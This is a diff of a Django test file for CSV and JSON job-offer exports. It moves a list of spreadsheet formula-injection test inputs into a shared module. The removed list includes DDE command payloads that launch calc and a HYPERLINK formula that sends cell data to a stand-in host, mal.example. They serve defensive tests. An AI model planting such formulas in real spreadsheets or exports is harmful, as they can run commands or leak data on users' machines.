@@ -10,10 +10,12 @@ from decimal import Decimal
 import pytest
 from django.test import override_settings
 
+from accounts import spreadsheets
 from jobs import exports
 from jobs.models import Employer, JobOffer
 from telecentres.models import Telecentre, Territory
 from tests import factories
+from tests.formulas import FORMULAS
 from tests.jobs.test_markup import HOSTILE
 
 JSON, CSV = "/emplois/offres.json", "/emplois/offres.csv"
@@ -31,30 +33,6 @@ FRANCE_TRAVAIL = {
 OURS = {"versionNAF", "modeTravail", "telecentres", "dernierJour", "exemple"}
 CONTRACTS = {"CDI", "CDD", "MIS", "SAI", "CCE", "FRA", "LIB", "REP", "TTI", "DDI", "DIN", "DDT"}
 MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
-FORMULAS = [
-    "=1+1",
-    "=cmd|'/C calc'!A0",
-    '=HYPERLINK("https://mal.example?x="&A1,"Clic")',
-    '=IMPORTXML("https://mal.example","//a")',
-    "+1+1",
-    "+33 4 65 71 00 15",
-    "-1+1",
-    "- tenir la caisse",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@exemple",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "'=1+1",
-    "''=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "\u00a0=1+1",
-]
 
 
 def results(client, query: str = "") -> list[dict]:
@@ -71,7 +49,7 @@ def rows(client, query: str = "") -> list[dict[str, str]]:
 
 def read_back(cell: str) -> str:
     """Takes away the apostrophe that keeps a spreadsheet from computing."""
-    return cell[1:] if cell.startswith("'") and exports.FORMULA.match(cell[1:]) else cell
+    return cell[1:] if cell.startswith("'") and spreadsheets.FORMULA.match(cell[1:]) else cell
 
 
 def flat(record: dict, before: str = "") -> dict[str, str]:
